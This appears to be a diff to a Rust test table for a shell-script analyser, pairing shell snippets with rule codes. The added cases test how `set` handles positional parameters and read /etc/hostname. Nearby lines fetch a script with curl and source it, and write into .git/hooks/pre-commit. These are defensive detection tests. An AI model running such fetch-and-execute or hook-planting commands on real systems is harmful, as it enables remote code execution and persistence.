@@ -247,6 +247,11 @@ const CASES: &[(&str, &str)] = &[
     // --- `set -` keeps the parameters; `set WORD` of a word not known may be options ----------
     ("set -- a; set -; curl -so s.sh https://x/i; source \"${1+s.sh}\"", "0057"),
     ("set -- a b; read -r o < n; set \"$o\"; curl -so s.sh https://x/i; source \"${2+s.sh}\"", "0057"),
+    // (options, the parameters after them or the ones before; or the first parameter)
+    ("set -- a /etc/hostname; read -r o < n; set \"$o\"; cat \"$2\"", "4004"),
+    ("set -- a b; read -r o < n; set \"$o\" /etc/hostname; cat \"$1\"", "4004"),
+    ("set -- a b; read -r o < n; set \"$o\" b /etc/hostname; cat \"$2\"", "4004"),
+    ("set -- a /etc/hostname; read -r o < n; set \"$o\" b c; cat \"$2\"", "0004"),
     // --- return, break and continue leave the state they find ---------------------------------
     ("f() { if [ -n \"$1\" ]; then d=.git/hooks; return; fi; d=ok; }; f x; echo x > \"$d/pre-commit\"", "2006"),
     ("d=a; for i in 1; do d=.git/hooks; break; d=ok; done; echo x > \"$d/pre-commit\"", "2006"),
